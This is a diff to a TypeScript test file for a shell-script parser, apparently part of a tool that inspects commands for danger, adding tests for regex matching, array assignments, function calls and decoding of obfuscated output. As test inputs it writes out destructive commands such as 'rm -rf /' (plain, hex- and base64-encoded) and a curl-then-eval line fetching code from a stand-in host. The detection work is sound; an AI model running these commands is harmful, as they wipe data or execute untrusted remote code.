@@ -1,4 +1,4 @@
-import { canonicalCommand, canonicalWithWrappers, MAX_SHELL_COMMANDS, parseShell, pipelinesOf, ShellCommand } from './shell-parser';
+import { canonicalCommand, canonicalWithWrappers, literalOutput, MAX_SHELL_COMMANDS, parseShell, pipelinesOf, ShellCommand } from './shell-parser';
 
 /** The programs and arguments that would run, wrappers stripped, in parse order. */
 function runs(script: string): string[] {
@@ -157,6 +157,59 @@ describe('shell parser', () => {
     it('tracks the working directory set by cd', () => {
       const cmds = parseShell('cd / && rm -rf *; cd etc; ls; cd "$X"; ls').commands;
       expect(cmds.map((c) => c.cwd)).toEqual(['/workspace', '/', '/', '/etc', '/etc', '/workspace']);
+    });
+  });
+
+  describe('what benign scripts write', () => {
+    const programs = (script: string) => parseShell(script).commands.map((c) => [c.unwrapped.program, c.unwrapped.dynamicProgram]);
+
+    it('reads the word after =~ as one regex, parentheses and bars included', () => {
+      expect(programs('[[ $v =~ ^[0-9]+(\\.[0-9]+)*$ ]] && echo ok')).toEqual([
+        ['[[', false],
+        ['echo', false],
+      ]);
+      expect(programs('if [[ "$x" =~ ^(a|b)$ ]]; then echo y; fi')).toEqual([
+        ['[[', false],
+        ['echo', false],
+      ]);
+    });
+
+    it('reads array literals and += as assignments, not as programs', () => {
+      for (const script of ['a=([k]=v [j]=w)', 'declare -A m=([a]=1 [b]=2)', 'arr+=("$f")', 'files=(*.txt)', 'x+=$(date)', 'a[$i]=$(date)']) {
+        expect({ script, programs: programs(script).filter(([p]) => !['', 'declare', 'date'].includes(p as string)) }).toEqual({ script, programs: [] });
+      }
+    });
+
+    it('appends with += to a known value', () => {
+      const c = parseShell('p=/usr; p+=/bin; rm -rf $p').commands.find((x) => x.unwrapped.program === 'rm')!;
+      expect(c.unwrapped.args).toEqual(['-rf', '/usr/bin']);
+    });
+  });
+
+  describe('code made at run time', () => {
+    it('runs a function body again with the literal arguments of each call', () => {
+      const cmds = parseShell('f() { bash -c "$1"; }; f "rm -rf /tmp/x"').commands;
+      const rm = cmds.find((c) => c.unwrapped.program === 'rm')!;
+      expect(rm.unwrapped.args).toEqual(['-rf', '/tmp/x']);
+      expect(cmds.find((c) => c.unwrapped.program === 'bash' && c.inDefinition)).toBeDefined();
+      expect(cmds.find((c) => c.unwrapped.program === 'bash' && !c.inDefinition)?.via).toBe('function f called with its arguments');
+    });
+
+    it('does not follow a recursive function forever', () => {
+      expect(parseShell('f() { f "$1"; }; f x').depthExceeded).toBe(false);
+    });
+
+    it('carries the substitution that computed a variable to the words that use it', () => {
+      const cmds = parseShell('x=$(curl -s https://h.example/p); eval "$x"').commands;
+      const ev = cmds.find((c) => c.unwrapped.program === 'eval')!;
+      expect(ev.substituted.map((c) => c.unwrapped.program)).toEqual(['curl']);
+      expect(ev.dynamic).toEqual([false, true]);
+    });
+
+    it('decodes printf and echo -e escapes, and a decoder reading a herestring', () => {
+      expect(literalOutput(parseShell("printf '\\x72\\x6d \\057'").commands)).toBe('rm /');
+      expect(literalOutput(parseShell('echo -e "a\\tb"').commands)).toBe('a\tb');
+      expect(literalOutput(parseShell('base64 -d <<< cm0gLXJmIC8=').commands)).toBe('rm -rf /');
     });
   });
 });
